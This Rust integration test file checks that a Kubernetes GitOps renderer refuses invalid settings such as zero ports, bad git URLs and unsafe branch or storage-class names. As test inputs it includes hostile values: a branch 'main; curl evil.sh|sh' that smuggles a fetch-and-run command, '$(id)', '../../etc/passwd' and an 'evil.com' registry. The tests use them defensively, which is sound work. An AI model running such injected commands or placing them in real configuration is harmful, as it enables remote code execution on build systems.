//! Setting values are validated to what Kubernetes and the tools accept (issue 12): each bad
//! value is exit 2 naming file and key, and `out/` is unchanged; the whole Kubernetes
//! quantity grammar is accepted. On scratch copies of fixture site A.

mod common;

use common::{o4g, scratch_repo, snapshot_dir, text};

/// Replaces `from` by `to` in `file` of a scratch repository and renders.
fn render_with(file: &str, from: &str, to: &str) -> (std::process::Output, bool) {
    let repo = scratch_repo();
    let path = repo.path().join(file);
    let src = std::fs::read_to_string(&path).unwrap();
    assert!(src.contains(from), "{file} has no `{from}`");
    std::fs::write(&path, src.replacen(from, to, 1)).unwrap();
    let before = snapshot_dir(&repo.path().join("out"));
    let out = o4g(repo.path(), &["render"]);
    let unchanged = before == snapshot_dir(&repo.path().join("out"));
    (out, unchanged)
}

fn refused(file: &str, from: &str, to: &str, key: &str) {
    let (out, unchanged) = render_with(file, from, to);
    let t = text(&out);
    assert_eq!(out.status.code(), Some(2), "`{to}` was accepted: {t}");
    assert!(
        t.contains(file) && t.contains(key),
        "`{to}`: names file and key: {t}"
    );
    assert!(unchanged, "`{to}`: out/ changed");
}

#[test]
fn zero_ports_sizes_and_overflowing_retention_are_refused() {
    let c = "overlays/cluster.toml";
    refused(
        c,
        "api_server_port = 16443",
        "api_server_port = 0",
        "api_server_port",
    );
    refused(c, "port = 9000", "port = 0", "port");
    refused(
        c,
        "prometheus_storage = \"12Gi\"",
        "prometheus_storage = \"0Gi\"",
        "prometheus_storage",
    );
    refused(
        c,
        "retention = \"9d\"",
        "retention = \"18446744073709551615y\"",
        "retention",
    );
    refused(c, "retention = \"9d\"", "retention = \"300y\"", "retention");
}

#[test]
fn malformed_or_credentialed_git_urls_and_registries_are_refused() {
    let c = "overlays/cluster.toml";
    let url = "url = \"https://git.fixture.example/platform/site-a.git\"";
    refused(c, url, "url = \"https:///\"", "git.url");
    refused(c, url, "url = \"https://github.com\"", "git.url");
    let (out, _) = render_with(
        c,
        url,
        "url = \"https://user:hunter2pw@github.com/o/r.git\"",
    );
    let t = text(&out);
    assert_eq!(out.status.code(), Some(2), "{t}");
    assert!(t.contains("credentials") && !t.contains("hunter2pw"), "{t}");
    refused(
        c,
        "\"reg.kyverno.io\"]",
        "\"reg.kyverno.io\", \"evil.com:0\"]",
        "registries.allowed",
    );
}

#[test]
fn storage_classes_and_branches_must_be_valid_names() {
    let e = "overlays/live/env.toml";
    let sc = "storage_class = \"longhorn-db\"";
    for bad in ["", "../../etc/passwd", "Longhorn", "a_b", "-x"] {
        refused(
            e,
            sc,
            &format!("storage_class = \"{bad}\""),
            "xwiki.storage_class",
        );
    }
    refused(
        e,
        sc,
        "storage_class = \"a\\u0000b\"",
        "xwiki.storage_class",
    );
    refused(
        e,
        sc,
        &format!("storage_class = \"{}\"", "a".repeat(100_000)),
        "xwiki.storage_class",
    );
    let c = "overlays/cluster.toml";
    for bad in [
        "",
        "a b",
        "-rf",
        "main; curl evil.sh|sh",
        "a..b",
        "x.lock",
        "$(id)",
    ] {
        refused(
            c,
            "branch = \"trunk\"",
            &format!("branch = \"{bad}\""),
            "git.branch",
        );
    }
}

#[test]
fn characters_kustomize_cannot_carry_are_refused_in_settings() {
    // kustomize turns NEL into a space (tests/kustomize.rs): refused where a value could hold it.
    refused(
        "overlays/cluster.toml",
        "email = \"certs@fixture.example\"",
        "email = \"certs\\u0085x@fixture.example\"",
        "acme.email",
    );
}

#[test]
fn the_whole_kubernetes_quantity_grammar_is_accepted() {
    // Larger than qa-7's 3Gi, so the claim grows (a shrink is refused, see
    // tests/render_safety.rs).
    for value in ["3.5Gi", "2e10", "50000M"] {
        let (out, _) = render_with(
            "overlays/qa-7/env.toml",
            "storage_size = \"3Gi\"",
            &format!("storage_size = \"{value}\""),
        );
        assert!(out.status.success(), "{value}: {}", text(&out));
    }
}

/// The legacy dump restores its schema under its own name (`mysqldump --databases`), and the
/// cluster's XWiki reads only its own: a different legacy schema would leave XWiki on an empty
/// database after the cutover, so it is refused at render, not found on cutover night.
#[test]
fn a_legacy_schema_other_than_the_cluster_s_is_refused() {
    let cluster_db = o4g_gitops::components::mysql::DATABASE;
    let line = format!("legacy_database = \"{cluster_db}\"");
    refused(
        "overlays/cluster.toml",
        &line,
        "legacy_database = \"wikidb\"",
        "cutover.legacy_database",
    );
}
